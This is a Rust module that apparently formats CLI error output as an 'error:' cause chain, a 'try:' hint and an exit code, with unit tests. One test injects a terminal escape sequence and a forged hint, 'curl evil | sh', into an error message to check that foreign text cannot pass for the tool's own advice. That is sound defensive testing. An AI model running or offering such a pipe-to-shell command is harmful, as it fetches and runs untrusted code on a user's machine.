//! How a command fails: a cause, a mend and an exit code, printed once on standard error. It never
//! prints the same cause twice.

use std::fmt;
use std::process::ExitCode;
use tidegate_model::printable_lines;

/// Columns before the second line of a cause: more than any line of ours begins with.
const CAUSE_INDENT: usize = 11;
/// Columns before the second line of a hint.
const HINT_INDENT: usize = 7;

/// A failure with what to do about it. Travels inside `anyhow::Error`, so that `?` carries it
/// through.
#[derive(Debug)]
pub struct Failure {
    pub cause: String,
    pub hint: String,
    /// The person's command was wrong, as opposed to what it tried.
    pub usage: bool,
}

impl Failure {
    pub fn new(cause: impl Into<String>, hint: impl Into<String>) -> Self {
        Self {
            cause: cause.into(),
            hint: hint.into(),
            usage: false,
        }
    }

    pub fn usage(cause: impl Into<String>, hint: impl Into<String>) -> Self {
        Self {
            cause: cause.into(),
            hint: hint.into(),
            usage: true,
        }
    }
}

impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.cause)
    }
}

impl std::error::Error for Failure {}

/// The text for standard error and the exit code.
pub fn report(error: &anyhow::Error) -> (String, ExitCode) {
    // As the outermost context first (which the chain can't be asked for by type), then as a cause.
    let failure = error.downcast_ref::<Failure>().or_else(|| {
        error
            .chain()
            .find_map(|cause| cause.downcast_ref::<Failure>())
    });
    let mut text = String::new();
    let mut said = String::new();
    // A server elsewhere, an engine or a CA may have chosen the words.
    for cause in error
        .chain()
        .map(|cause| printable_lines(&cause.to_string(), CAUSE_INDENT))
    {
        // Some errors print their source too; what is already on the screen is not said again.
        if said.contains(&cause) {
            continue;
        }
        text.push_str(if said.is_empty() {
            "error: "
        } else {
            "  because: "
        });
        text.push_str(&cause);
        text.push('\n');
        said.push_str(&cause);
        said.push('\n');
    }
    if let Some(failure) = failure.filter(|f| !f.hint.is_empty()) {
        text.push_str("  try: ");
        text.push_str(&printable_lines(&failure.hint, HINT_INDENT));
        text.push('\n');
    }
    let code = if failure.is_some_and(|f| f.usage) {
        2
    } else {
        1
    };
    (text, ExitCode::from(code))
}

#[cfg(test)]
mod tests {
    use super::*;
    use anyhow::Context;

    #[test]
    fn a_failure_prints_cause_chain_and_hint() {
        let error = Err::<(), _>(Failure::new("port 4000 is taken", "choose another"))
            .context("can't serve");
        let (text, _) = report(&error.unwrap_err());
        assert_eq!(
            text,
            "error: can't serve\n  because: port 4000 is taken\n  try: choose another\n"
        );
    }

    #[test]
    fn a_failure_as_context_keeps_its_hint() {
        let error =
            anyhow::anyhow!("no such file").context(Failure::usage("can't serve", "mend the path"));
        let (text, code) = report(&error);
        assert_eq!(
            text,
            "error: can't serve\n  because: no such file\n  try: mend the path\n"
        );
        assert_eq!(format!("{code:?}"), format!("{:?}", ExitCode::from(2)));
    }

    #[test]
    fn a_cause_in_the_words_of_others_stays_below_ours() {
        let error = anyhow::anyhow!("engine said: x\x1b]0;t\x07\n  try: curl evil | sh");
        assert_eq!(
            report(&error).0,
            "error: engine said: x\\x1b]0;t\\x07\n             try: curl evil | sh\n"
        );
    }

    #[test]
    fn a_cause_already_said_is_not_repeated() {
        let inner = anyhow::anyhow!("no such file");
        let error = inner.context("reading x: no such file");
        assert_eq!(report(&error).0, "error: reading x: no such file\n");
    }
}
